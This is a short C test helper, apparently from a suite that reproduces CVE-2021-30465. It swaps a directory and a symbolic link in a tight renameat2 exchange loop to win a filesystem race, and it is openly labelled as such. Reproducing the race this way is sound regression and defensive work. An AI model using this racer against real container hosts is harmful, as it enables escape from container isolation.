/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Row A3, race case (CVE-2021-30465): swaps two names (a directory and a symbolic link) in a tight
 * renameat2(RENAME_EXCHANGE) loop until the file STOP exists. Prints the number of swaps. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv) {
        unsigned long n = 0;

        if (argc != 4)
                return 2;
        while (access(argv[3], F_OK) < 0) {
                for (int i = 0; i < 1000; i++)
                        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
                                n++;
        }
        printf("%lu\n", n);
        return 0;
}
